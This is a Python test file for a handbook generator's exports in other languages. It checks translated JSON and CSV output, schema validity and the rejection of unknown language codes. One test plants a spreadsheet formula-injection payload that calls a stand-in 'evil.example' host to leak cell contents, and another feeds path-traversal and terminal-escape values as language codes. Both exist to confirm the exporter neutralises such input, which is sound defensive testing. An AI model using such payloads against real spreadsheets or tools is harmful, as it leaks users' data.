"""The exports in another language: ``handbook export --language nb`` on a copy of the real
project with its shipped translations; the JSON validated against the committed schema."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from babel.messages.pofile import read_po, write_po

from generator.catalog.catalog import load_catalog
from generator.commands.cli import main
from generator.load.project import Project
from generator.outputs.export import export_text
from tests.conftest import ROOT, copy_project

SCHEMA = ROOT / "schema" / "export.schema.json"
PRACTICE = "p1824-drammen"  # its summary is translated in translations/nb/practices.po
UNTRANSLATED = "arbeid-med-bistand"  # its summary is not
SUMMARY = f"practice:{PRACTICE}:summary"
# What an export writes itself: the same in every language.
NUMBERS = ("id", "title", "country", "scope", "started", "ended", "page", "last_reviewed")
LISTS = ("placement_phases", "target_groups", "themes", "organisations")


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The real project with two languages and their shipped translations."""
    return copy_project(tmp_path_factory.mktemp("export-language") / "project", ["nb", "uk"])


def run(project: Path, *argv: str) -> str:
    out = project.parent / "out.txt"
    out.unlink(missing_ok=True)
    assert main(["export", "--root", str(project), *argv, "--out", str(out)]) == 0
    return out.read_bytes().decode("utf-8")


def exported(project: Path, kind: str, language: str) -> Any:
    text = run(project, "--format", kind, "--language", language)
    if kind == "json":
        return json.loads(text)
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def norwegian(project: Path, context: str) -> str:
    with (project / "translations" / "nb" / "practices.po").open("rb") as file:
        catalog = read_po(file)
    found = next(m for m in catalog if m.context == context)
    assert isinstance(found.string, str) and found.string
    return found.string


def validate(document: object) -> None:
    schema = json.loads(SCHEMA.read_text("utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(document, schema, cls=jsonschema.Draft202012Validator)


def by_id(document: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {p["id"]: p for p in document["practices"]}


def test_nb_json_has_the_norwegian_summary_and_names_the_english_texts(project: Path) -> None:
    document = exported(project, "json", "nb")
    validate(document)
    assert document["language"] == "nb" and document["version"] == 1
    practices = by_id(document)
    translated = practices[PRACTICE]
    assert translated["summary"] == norwegian(project, SUMMARY)
    assert translated["summary"].startswith("P1824 var et prosjekt i Drammen kommune")
    assert "summary" not in translated["languages"]
    assert translated["country_name"] == "Norge"
    assert translated["key_figures"][0]["unit"] == "personer"
    english = by_id(json.loads(run(project, "--format", "json")))
    other = practices[UNTRANSLATED]
    assert other["languages"]["summary"] == "en"
    assert other["summary"] == english[UNTRANSLATED]["summary"]
    for path, code in other["languages"].items():  # every path names a text of the practice
        assert code == "en"
        assert path.split("[")[0].split(".")[0] in other
    # The criteria and the vocabulary labels are translated in handbook.po: none is named.
    assert document["criteria"][0]["name"] == "Effektiv og vellykket"
    assert "criteria[0].name" not in document["languages"]
    assert not [k for k in document["languages"] if k.startswith(("criteria", "vocabularies"))]


def test_numbers_dates_ids_and_ratings_are_the_same_in_every_language(project: Path) -> None:
    english = by_id(json.loads(run(project, "--format", "json")))
    for code in ("nb", "uk"):
        translated = by_id(exported(project, "json", code))
        assert list(translated) == list(english)
        for pid, practice in translated.items():
            source = english[pid]
            for field in (*NUMBERS, *LISTS, "criteria", "title_en"):
                if field != "title_en":
                    assert practice[field] == source[field], (code, pid, field)
            assert (practice["title_en"] is None) == (source["title_en"] is None)
            for figure, original in zip(
                practice["key_figures"], source["key_figures"], strict=True
            ):
                for key in ("value", "value_max", "qualifier", "year"):
                    assert figure[key] == original[key] and type(figure[key]) is type(original[key])


def test_nb_csv_has_the_norwegian_texts_and_the_same_numbers(project: Path) -> None:
    english = exported(project, "csv", "en")
    translated = exported(project, "csv", "nb")
    assert list(translated) == list(english)
    row = translated[PRACTICE]
    assert row["summary"] == norwegian(project, SUMMARY)
    assert row["key_figures"].startswith("428 personer: Mottakere av sosialhjelp")
    assert translated[UNTRANSLATED]["summary"] == english[UNTRANSLATED]["summary"]
    for pid, values in translated.items():
        for column, value in values.items():
            if column in NUMBERS or column.startswith("criterion_") or column in LISTS:
                assert value == english[pid][column], (pid, column)

        def numbers(figures: str) -> list[str]:  # after a qualifier's label, if any
            return [re.findall(r"\d[\d.]*", part)[0] for part in figures.split("; ") if part]

        assert numbers(values["key_figures"]) == numbers(english[pid]["key_figures"])


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_english_is_byte_identical_with_or_without_language_en(project: Path, kind: str) -> None:
    catalog, _ = load_catalog(Project(project))
    before = export_text(catalog, "csv" if kind == "csv" else "json")
    assert run(project, "--format", kind) == before
    assert run(project, "--format", kind, "--language", "en") == before
    if kind == "json":
        document = json.loads(before)
        validate(document)
        assert "language" not in document and "languages" not in document
        assert all("languages" not in p for p in document["practices"])


def test_two_exports_in_a_language_are_byte_identical(project: Path) -> None:
    first = run(project, "--format", "json", "--language", "nb")
    assert run(project, "--format", "json", "--language", "nb") == first


@pytest.mark.parametrize(
    "argv",
    [
        ["export", "--format", "json"],
        ["export", "--format", "csv"],
        ["export", "--schema"],
        ["export-cartridge", "--out", "{out}"],
        ["pdf", "--out", "{out}"],
    ],
)
@pytest.mark.parametrize("code", ["xx", "sv", "NB", "../nb", "nb\x1b[31m", ""])
def test_an_unknown_language_is_a_usage_error_and_nothing_is_written(
    project: Path, tmp_path: Path, argv: list[str], code: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    args = [a.replace("{out}", str(out)) for a in argv]
    if argv[0] == "export":
        args += ["--out", str(out)]
    assert main([*args, "--root", str(project), "--language", code]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and "\x1b" not in err
    shown = code.replace("\x1b", "\\x1b")
    assert f"handbook: error: --language {shown}: expected one of en, nb, uk " in err
    assert not out.exists()


def hostile_copy(project: Path, target: Path, changes: dict[str, tuple[str, bool]]) -> Path:
    """A copy of ``project`` whose nb translations of the ``changes`` contexts are replaced
    (translation, fuzzy)."""
    copy = copy_project(target, ["nb"])
    po = copy / "translations" / "nb" / "practices.po"
    with po.open("rb") as file:
        catalog = read_po(file)
    for message in catalog:
        if message.context in changes:
            message.string, fuzzy = changes[message.context]
            if fuzzy:
                message.flags.add("fuzzy")
    with po.open("wb") as file:
        write_po(file, catalog, width=0)
    return copy


def test_a_hostile_translation_is_data_and_never_a_spreadsheet_formula(
    project: Path, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    copy = hostile_copy(project, tmp_path / "hostile", {SUMMARY: (formula, False)})
    rows = exported(copy, "csv", "nb")
    assert rows[PRACTICE]["summary"] == "'" + formula
    document = exported(copy, "json", "nb")
    validate(document)
    practice = by_id(document)[PRACTICE]
    assert practice["summary"] == formula  # JSON holds the text as it is: data, not markup
    assert "summary" not in practice["languages"]


def test_a_fuzzy_translation_is_not_used_and_is_marked_english(
    project: Path, tmp_path: Path
) -> None:
    copy = hostile_copy(project, tmp_path / "fuzzy", {SUMMARY: ("Utdatert oversettelse", True)})
    english = by_id(json.loads(run(copy, "--format", "json")))
    practice = by_id(exported(copy, "json", "nb"))[PRACTICE]
    assert practice["summary"] == english[PRACTICE]["summary"]
    assert practice["languages"] == {"summary": "en"}


def test_a_translated_qualifier_and_a_decimal_value_in_the_nb_csv(tmp_path: Path) -> None:
    """The CSV's key figures: the qualifier's label in Norwegian, the number as English
    writes it (``2.5``, not CLDR's ``2,5``), in the JSON the value exactly."""
    copy = copy_project(tmp_path / "project", ["nb"])
    record = copy / "practices" / "nav-supported-employment.yaml"
    text = record.read_text("utf-8")
    assert text.count("  - value: 6000\n") == 1
    record.write_text(text.replace("  - value: 6000\n", "  - value: 2.5\n"), "utf-8")
    po = copy / "translations" / "nb" / "handbook.po"
    with po.open("rb") as file:
        catalog = read_po(file)
    for message in catalog:
        if message.context == "vocabulary:figure_qualifiers:about":
            message.string = "om lag"
    with po.open("wb") as file:
        write_po(file, catalog, width=0)
    row = exported(copy, "csv", "nb")["nav-supported-employment"]
    figures = row["key_figures"].split("; ")
    assert figures[1].startswith("om lag 45000 ungdommer: "), figures[1]
    assert figures[5].startswith("om lag 2.5 personer: "), figures[5]
    document = exported(copy, "json", "nb")
    figure = by_id(document)["nav-supported-employment"]["key_figures"][5]
    assert figure["value"] == 2.5 and figure["qualifier"] == "about"
    assert document["vocabularies"]["figure_qualifiers"]["about"] == "om lag"
    assert "vocabularies.figure_qualifiers.about" not in document["languages"]
    assert "vocabularies.figure_qualifiers.over" not in document["languages"]  # shipped


def test_a_language_without_translations_exports_english_and_names_every_text(
    tmp_path: Path,
) -> None:
    copy = copy_project(tmp_path / "project", ["nb"], translations=False)
    english = json.loads(run(copy, "--format", "json"))
    document = exported(copy, "json", "nb")
    validate(document)
    assert document["language"] == "nb"
    for practice, source in zip(document["practices"], english["practices"], strict=True):
        assert practice["summary"] == source["summary"]
        assert practice["languages"]["summary"] == "en"
    assert document["languages"]["criteria[0].name"] == "en"
